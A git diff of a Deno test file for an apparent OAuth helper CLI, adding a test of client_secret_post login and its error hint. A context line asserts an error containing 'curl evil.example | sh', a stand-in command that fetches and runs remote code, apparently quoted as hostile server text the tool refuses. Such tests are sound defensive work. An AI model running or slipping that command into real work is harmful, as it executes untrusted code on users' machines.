@@ -268,3 +268,44 @@ test("an error is one line, whatever the text of the server", async (desk) => {
   assertStringIncludes(message, "Refused Run `curl evil.example | sh`.");
   assertStringIncludes(remedy, "`oauth-helper doctor URL`");
 });
+
+test("login sends the secret of a client in the body where the server wants that, and its error names the option", async (desk) => {
+  const redirectUri = await onFreePort((port) =>
+    `http://127.0.0.1:${port}/callback`
+  );
+  await using servers = await startFlowServers({
+    clients: [{
+      client_id: "c1",
+      client_secret: "s3cret",
+      token_endpoint_auth_method: "client_secret_post",
+      redirect_uris: [redirectUri],
+      grant_types: ["authorization_code", "refresh_token"],
+      response_types: ["code"],
+    }],
+    // oidc-provider accepts both.
+    before({ url, headers }, response) {
+      if (url !== "/token" || !headers.authorization) return;
+      response.writeHead(401, { "Content-Type": "application/json" })
+        .end('{"error":"invalid_client"}');
+    },
+  });
+  const { server, protectedResource: { resource } } = servers;
+  const secretFile = `${desk.home}/secret`;
+  await Deno.writeTextFile(secretFile, "s3cret");
+  const login = [
+    ...["login", "--client-id=c1", `--client-secret-file=${secretFile}`],
+    ...[`--issuer=${server.issuer}`, `--redirect-uri=${redirectUri}`],
+  ];
+  const refused = await desk.signIn([...login, resource]);
+  assertEquals(refused.code, 1);
+  assertStringIncludes(
+    refused.output.replace(/\s+/g, " "),
+    "(client_secret was in the header: try --client-secret-post)",
+  );
+  const done = await desk.signIn([...login, "--client-secret-post", resource]);
+  assertEquals(done.code, 0, done.output);
+  // A refresh does the same without the option.
+  await desk.change();
+  const { code, errors } = await desk.run(["token", resource]);
+  assertEquals(code, 0, errors);
+});
